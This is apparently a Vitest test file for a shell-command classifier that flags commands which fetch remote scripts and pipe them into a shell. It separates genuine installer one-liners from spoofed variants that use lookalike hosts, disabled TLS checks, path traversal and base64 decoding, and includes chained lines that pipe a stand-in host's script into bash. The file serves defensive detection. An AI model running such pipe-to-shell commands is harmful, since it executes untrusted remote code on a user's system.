import { describe, expect, it } from 'vitest';
import { traitsOf } from '../../../utils/inspect/runs/command-traits.ts';

describe('commands that install a known tool', () => {
  it.each([
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", 'curl -fsSL https://bun.sh/install | bash', 'curl -fsSL https://get.pnpm.io/install.sh | sh -', 'wget -qO- https://get.pnpm.io/install.sh | sh -',
    'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash', 'curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -', 'curl -LsSf https://astral.sh/uv/install.sh | sh',
    'sh -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"', 'curl -fsSL https://get.docker.com | sh', 'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"', 'curl -L https://foundry.paradigm.xyz | bash',
    'curl -fsSL https://deno.land/install.sh | sh',
  ])('%s neither fetches nor pipes for the rules', (command) => expect(traitsOf(command)).toEqual(['known-installer']));

  it.each([
    ['a host that begins alike', 'curl https://sh.rustup.rs.files.example | sh'], ['a name in front of the host', 'curl https://sh.rustup.rs@files.example/x | sh'], ['no encryption', 'curl http://sh.rustup.rs | sh'],
    ['no check of who answers', 'curl -ksSf https://sh.rustup.rs | sh'], ['another way to the host', 'curl --connect-to ::files.example: https://sh.rustup.rs | sh'], ['a path that anybody can write', 'curl https://deno.land/x/mine/a.sh | sh'],
    ['somebody else\'s repository', 'curl https://raw.githubusercontent.com/somebody/nvm-sh/main/x.sh | bash'], ['a second address', 'curl https://sh.rustup.rs https://files.example/x | sh'], ['a step out of the path', 'curl https://bun.sh/install/../x | sh'],
    ['a decoder behind it', 'curl https://sh.rustup.rs | base64 -d | sh'],
  ])('not with %s', (_, command) => expect(traitsOf(command)).toEqual(expect.arrayContaining(['fetches', 'pipes-into-shell'])));

  it('do not cover what stands beside them', () => {
    expect(traitsOf('curl https://sh.rustup.rs | sh && curl https://files.example/x | sh')).toEqual(['fetches', 'pipes-into-shell', 'known-installer']);
    expect(traitsOf('curl https://sh.rustup.rs | sh; echo aGVsbG8= | base64 -d | bash')).toEqual(['pipes-into-shell', 'encoded', 'known-installer']);
  });
});
